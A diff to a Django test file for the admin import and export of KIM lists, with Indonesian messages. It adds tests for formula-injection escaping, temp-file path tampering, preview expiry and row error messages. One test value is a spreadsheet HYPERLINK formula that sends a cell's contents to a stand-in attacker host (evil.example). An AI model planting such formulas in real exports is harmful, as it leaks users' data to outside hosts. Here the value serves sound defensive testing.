@@ -1,7 +1,14 @@
 """Staff import KIM lists from CSV and XLSX in the admin, and export them back."""
 
+import csv
+import io
+import re
+import tempfile
+import time
 from datetime import date
+from pathlib import Path
 
+import openpyxl
 import pytest
 import tablib
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -18,13 +25,13 @@ def upload(client, content: bytes, name="kim.csv", fmt="0"):
     return client.post("/admin/registry/kim/import/", {"format": fmt, "import_file": SimpleUploadedFile(name, content)})
 
 
-def confirm(client, preview):
+def confirm(client, preview, **kwargs):
     html = preview.content.decode()
     fields = {
         name: html.split(f'name="{name}" value="')[1].split('"')[0]
         for name in ("import_file_name", "original_file_name", "format")
     }
-    return client.post("/admin/registry/kim/process_import/", {**fields, "resource": ""})
+    return client.post("/admin/registry/kim/process_import/", {**fields, "resource": ""}, **kwargs)
 
 
 def test_a_csv_is_previewed_row_by_row_and_saved_only_on_confirmation(staff_client, kotim):
@@ -38,12 +45,14 @@ def test_a_csv_is_previewed_row_by_row_and_saved_only_on_confirmation(staff_clie
     assert preview.content.decode().count('<tr class="new">') == 2
     assert "Konfirmasi impor" in preview.content.decode()
     assert not Kim.objects.exists()
-    confirm(staff_client, preview)
+    done = confirm(staff_client, preview, follow=True).content.decode()
+    assert "Impor selesai: 2 baru, 0 diperbarui, 0 tidak berubah, 0 dihapus." in done
     assert set(Kim.objects.values_list("name", "desa__name")) == {
         ("KIM Parenggean", "Parenggean"),
         ("KIM Baamang Hulu", "Baamang Hulu"),
     }
     assert Kim.objects.get(name="KIM Parenggean").contact_phone == "081234567890"
+    assert Kim.objects.get(name="KIM Parenggean").history.get().history_change_reason == "impor dari berkas kim.csv"
 
 
 def test_one_bad_row_rejects_the_whole_file_with_a_message_per_row(staff_client, kotim):
@@ -139,6 +148,7 @@ def test_importing_an_export_changes_nothing(kotim, fmt):
         notes='Catatan, dengan koma; dan "kutip"',
     )
     make_kim(desa=parenggean.desa.last(), name="KIM Tidur", inactive_since=date(2022, 5, 1))
+    make_kim(desa=parenggean.desa.last(), name=FORMULA, notes="'=sudah diberi kutip", address="-")
     before = snapshot()
     exported = KimResource().export().export(fmt)
     dataset = tablib.Dataset().load(exported, format=fmt)
@@ -184,3 +194,91 @@ def test_an_imported_address_over_500_characters_is_refused(kotim):
     messages = [str(e) for row in result.invalid_rows for errors in row.error_dict.values() for e in errors]
     assert any("paling banyak 500 karakter" in m for m in messages), messages
     assert not Kim.objects.exists()
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&O2,"Klik di sini")'
+
+
+def export(client, fmt):
+    columns = {f"kimresource_{column}": "on" for column in KimResource().get_export_headers()}
+    return client.post("/admin/registry/kim/export/", {"format": fmt, "resource": "0", **columns})
+
+
+def test_a_kim_name_written_as_a_formula_is_exported_as_text_in_csv(staff_client, kotim):
+    make_kim(desa=kotim.kecamatan.first().desa.first(), name=FORMULA, notes="@SUM(1+1)", address="Jl. Baru")
+    response = export(staff_client, "0")
+    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert (row["nama"], row["catatan"], row["alamat"]) == ("'" + FORMULA, "'@SUM(1+1)", "Jl. Baru")
+
+
+def test_a_kim_name_written_as_a_formula_is_exported_as_text_in_xlsx(staff_client, kotim):
+    make_kim(desa=kotim.kecamatan.first().desa.first(), name=FORMULA)
+    sheet = openpyxl.load_workbook(io.BytesIO(export(staff_client, "1").content)).active
+    headers = [cell.value for cell in sheet[1]]
+    cell = sheet.cell(row=2, column=headers.index("nama") + 1)
+    assert cell.data_type == "s"
+    assert cell.value == "'" + FORMULA
+
+
+def confirm_file(client, name):
+    data = {"import_file_name": name, "original_file_name": "kim.csv", "format": "0", "resource": ""}
+    return client.post("/admin/registry/kim/process_import/", data, follow=True)
+
+
+GONE = "Pratinjau impor ini tidak ada lagi"
+
+
+def test_the_confirm_step_reads_no_file_the_form_names(staff_client, kotim):
+    planted = Path(tempfile.gettempdir()) / "kimportal-ditanam.csv"
+    planted.write_text(HEADER + "62.02.04.1004,,,KIM Tanam,,2021-01-05,\n")
+    try:
+        response = confirm_file(staff_client, planted.name)
+        assert GONE in response.content.decode()
+        assert planted.exists()
+    finally:
+        planted.unlink()
+    assert not Kim.objects.exists()
+
+
+def test_an_unknown_preview_name_gets_a_clear_message_not_an_error_page(staff_client, kotim):
+    response = confirm_file(staff_client, "0" * 32)
+    assert response.status_code == 200
+    assert GONE in response.content.decode()
+
+
+def test_a_preview_leaves_nothing_in_the_temp_folder_and_expires_after_an_hour(
+    staff_client, kotim, tmp_path, monkeypatch
+):
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    preview = upload(staff_client, (HEADER + "62.02.04.1004,,,KIM Basi,,2021-01-05,\n").encode())
+    assert list(tmp_path.iterdir()) == []
+    later = time.time() + 3601
+    monkeypatch.setattr(time, "time", lambda: later)
+    assert GONE in confirm(staff_client, preview, follow=True).content.decode()
+    assert not Kim.objects.exists()
+
+
+def test_a_nul_byte_in_a_cell_gets_a_clear_indonesian_row_message(staff_client, kotim):
+    html = upload(staff_client, (HEADER + "62.02.04.1004,,,KIM\x00Nol,,2021-01-05,\n").encode()).content.decode()
+    assert "Berisi karakter NUL (kode 0)" in html
+    assert "Konfirmasi impor" not in html
+    assert not Kim.objects.exists()
+
+
+def test_row_errors_name_the_spreadsheet_row_and_show_the_message_beside_it(staff_client, kotim):
+    csv = HEADER + (
+        "62.02.04.1004,,,KIM Baik,,2021-01-05,\n"  # spreadsheet row 2 (the header is row 1)
+        "62.02.04.1004,,,KIM Baik Juga,,2021-01-06,\n"
+        "62.02.04.1004,,,KIM Salah Tanggal,,30-02-2021,\n"  # row 4
+    )
+    html = upload(staff_client, csv.encode()).content.decode()
+    row = re.search(r"<tr>\s*<th scope=\"row\">Baris 4</th>(.*?)</tr>", html, re.S)
+    assert row, html
+    assert "<strong>tanggal_terbentuk</strong>: “30-02-2021” bukan tanggal yang valid" in row.group(1)
+    assert "validation-error-container" not in html  # nothing hidden behind a hover
+
+
+def test_a_row_error_outside_any_column_names_the_spreadsheet_row_too(kotim):
+    dataset = tablib.Dataset().load("kode_desa,nama\n62.02.04.1004,KIM Tanpa Tanggal\n", format="csv")
+    result = KimResource().import_data(dataset, dry_run=True)
+    assert [number for number, errors in result.row_errors()] == [2]
